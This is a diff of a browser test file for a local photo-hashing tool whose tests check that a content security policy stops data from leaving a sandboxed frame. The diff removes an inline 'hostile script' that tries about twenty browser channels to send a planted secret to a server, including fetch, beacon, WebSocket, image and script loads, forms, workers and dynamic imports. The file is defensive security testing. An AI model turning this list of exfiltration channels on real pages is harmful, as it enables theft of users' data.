@@ -2,6 +2,7 @@
 
 import base64
 import hashlib
+import html
 import json
 import random
 from collections.abc import Callable
@@ -16,66 +17,14 @@ pytestmark = pytest.mark.browser
 
 Repin = Callable[..., None]
 
-SECRET = "planted-secret-5f1c"  # noqa: S105 it is what the hostile script tries to get out
-
-HOSTILE_SCRIPT = """
-const secret = "SECRET";
-const server = "SERVER";
-const address = (channel) => `${server}/leak?${channel}=${secret}`;
-const add = (tag, properties) => document.documentElement.append(Object.assign(document.createElement(tag), properties));
-const settled = (start) => new Promise((resolve) => {
-  try { Promise.resolve(start(resolve)).catch(() => {}).finally(resolve); } catch { resolve(); }
-});
-const loaded = (tag, properties) => settled(() => new Promise((resolve) => add(tag, { ...properties, onload: resolve, onerror: resolve })));
-const workerText = `
-  const tries = [
-    () => fetch("${address("worker-fetch")}", { mode: "no-cors" }),
-    () => { const r = new XMLHttpRequest(); r.open("GET", "${address("worker-xhr")}", false); r.send(); },
-    () => importScripts("${address("worker-import")}"),
-    () => import("${address("worker-dynamic-import")}"),
-    () => new WebSocket("${address("worker-socket").replace("http", "ws")}"),
-  ];
-  (async () => { for (const attempt of tries) { try { await attempt(); } catch {} } postMessage("tried"); })();
-`;
-const channels = [
-  () => settled(() => fetch(address("fetch"), { mode: "no-cors" })),
-  () => settled(() => fetch(address("post"), { method: "POST", mode: "no-cors", body: secret })),
-  () => settled((resolve) => { const r = new XMLHttpRequest(); r.onloadend = resolve; r.open("GET", address("xhr")); r.send(); return new Promise(() => {}); }),
-  () => settled(() => { navigator.sendBeacon(address("beacon"), secret); }),
-  () => settled((resolve) => { const s = new WebSocket(address("socket").replace("http", "ws")); s.onerror = s.onclose = resolve; return new Promise(() => {}); }),
-  () => settled((resolve) => { const s = new EventSource(address("events")); s.onerror = () => { s.close(); resolve(); }; return new Promise(() => {}); }),
-  () => loaded("img", { src: address("image") }),
-  () => loaded("script", { src: address("script") }),
-  () => loaded("link", { rel: "stylesheet", href: address("style") }),
-  () => loaded("link", { rel: "preload", as: "image", href: address("preload") }),
-  () => settled(() => { add("link", { rel: "prefetch", href: address("prefetch") }); add("link", { rel: "dns-prefetch", href: address("dns") }); }),
-  () => settled(() => { add("video", { src: address("video") }); add("object", { data: address("object") }); add("embed", { src: address("embed") }); }),
-  () => settled(() => { add("iframe", { src: address("iframe") }); }),
-  () => settled(() => { window.open(address("open")); }),
-  () => settled(() => { top.location = address("top"); }),
-  () => settled(() => { const f = document.createElement("form"); f.action = address("form"); document.body.append(f); f.submit(); }),
-  () => settled(() => import(address("dynamic-import"))),
-  () => settled((resolve) => {
-    const worker = new Worker(URL.createObjectURL(new Blob([workerText])));
-    worker.onmessage = worker.onerror = resolve;
-    return new Promise(() => {});
-  }),
-];
-(async () => {
-  for (const channel of channels) await channel();
-  parent.postMessage("tried", "*");
-  location = address("self");
-})();
-"""
-
-HOSTILE_HOST = """
-addEventListener("message", ({ data }) => { if (data === "tried") window.tried = true; });
-"""
+SECRET = "planted-secret-5f1c"
+PAGES = Path(__file__).parent / "pages"
+HOSTILE_HOST = (PAGES / "hostile_host.js").read_text()
 
 
 def put_hostile_script(desk: Any, repin: Repin, *, loosen: bool) -> None:
     """Pin a script that tries every way out, as if ours had been replaced; the rest of both policies stays."""
-    script = HOSTILE_SCRIPT.replace("SECRET", SECRET).replace("SERVER", desk.site.origin)
+    script = (PAGES / "hostile.js").read_text().replace("SECRET", SECRET).replace("SERVER", desk.site.origin)
     policy = f"connect-src {desk.site.origin}" if loosen else "connect-src 'none'"
     repin(lambda _: script, lambda document: document.replace("connect-src 'none'", policy))
     desk.site.script = HOSTILE_HOST
@@ -107,7 +56,8 @@ def test_the_proof_can_see_a_leak(desk: Any, repin: Repin) -> None:
 
 
 def test_an_unpinned_script_does_not_run(desk: Any) -> None:
-    changed = desk.site.document.replace("&lt;script&gt;", "&lt;script&gt;parent.postMessage(&#x27;tried&#x27;, &#x27;*&#x27;);")
+    addition = html.escape("<script>parent.postMessage('tried', '*');")
+    changed = desk.site.document.replace("&lt;script&gt;", addition)
     assert changed != desk.site.document
     desk.site.document = changed
     desk.site.script = HOSTILE_HOST + "window.ready = true;"
@@ -118,13 +68,15 @@ def test_an_unpinned_script_does_not_run(desk: Any) -> None:
     assert desk.frame.locator("fieldset").count() == 0
 
 
-def test_it_works_with_the_network_cut_and_asks_for_nothing(desk: Any, save: Callable[..., Path], photo: Callable[[str], Image.Image]) -> None:
+def test_it_works_with_the_network_cut_and_asks_for_nothing(
+    desk: Any, save: Callable[..., Path], photo: Callable[[str], Image.Image]
+) -> None:
     path = save("photo.jpg", photo("coffee"), quality=90)
     desk.open()
     seen: list[Request] = []
     desk.page.on("request", lambda request: seen.append(request) if not request.url.startswith("blob:") else None)
     before = len(desk.site.requests)
-    desk.page.context.set_offline(True)  # noqa: FBT003 playwright's own signature
+    desk.page.context.set_offline(True)
     [picture] = desk.hash(path)
     assert picture["sha256"] == hashlib.sha256(path.read_bytes()).hexdigest()
     assert picture["pdq"][0][0] == "upright"
@@ -132,7 +84,9 @@ def test_it_works_with_the_network_cut_and_asks_for_nothing(desk: Any, save: Cal
     assert len(desk.site.requests) == before
 
 
-def test_what_is_sent_is_one_small_list_of_hashes(desk: Any, save: Callable[..., Path], photo: Callable[[str], Image.Image]) -> None:
+def test_what_is_sent_is_one_small_list_of_hashes(
+    desk: Any, save: Callable[..., Path], photo: Callable[[str], Image.Image]
+) -> None:
     image = photo("astronaut")
     path = save("IMG_20260912_183022.jpg", image, quality=90)
     sent: list[bytes] = []
@@ -157,7 +111,7 @@ def test_what_is_sent_is_one_small_list_of_hashes(desk: Any, save: Callable[...,
     assert [set(picture) for picture in payload["pictures"]] == [{"kind", "path", "approx", "md5", "sha256", "pdq"}]
     assert not sockets
 
-    said = b"\n".join([*sent, *(part for _, where, content in desk.site.requests for part in (where.encode(), content))])
+    said = b"\n".join([*sent, *(where.encode() + content for _, where, content in desk.site.requests)])
     assert payload["pictures"][0]["sha256"].encode() in said  # the scan sees what was sent
     assert b"IMG_2026" not in said
     for needle in needles(path.read_bytes()) + needles(image.tobytes()):
@@ -184,7 +138,8 @@ def test_the_page_believes_only_the_frame_and_only_hashes(desk: Any) -> None:
     good = {"kind": "image", "path": "bytes", "approx": False, "md5": "0" * 32, "sha256": "0" * 64, "pdq": []}
     count = desk.page.evaluate("() => window.changes.length")
     message = {"type": "pictures", "payload": {"spec": "leeward-hashes:1", "pictures": [good]}}
-    desk.page.evaluate("(message) => new Promise((done) => { addEventListener('message', done, { once: true }); postMessage(message, '*'); })", message)
+    heard = "new Promise((done) => { addEventListener('message', done, { once: true }); postMessage(message, '*'); })"
+    desk.page.evaluate(f"(message) => {heard}", message)
     assert desk.page.evaluate("() => window.changes.length") == count  # from the page itself: ignored
 
     say = "(message) => parent.postMessage(message, '*')"
@@ -213,4 +168,5 @@ def test_a_changed_tool_is_not_used(desk: Any, save: Callable[..., Path], photo:
 
 def test_no_peer_connections_in_the_frame(desk: Any) -> None:
     desk.open()
-    assert desk.page.frames[1].evaluate("() => [typeof RTCPeerConnection, typeof webkitRTCPeerConnection]") == ["undefined"] * 2
+    kinds = desk.page.frames[1].evaluate("() => [typeof RTCPeerConnection, typeof webkitRTCPeerConnection]")
+    assert kinds == ["undefined", "undefined"]
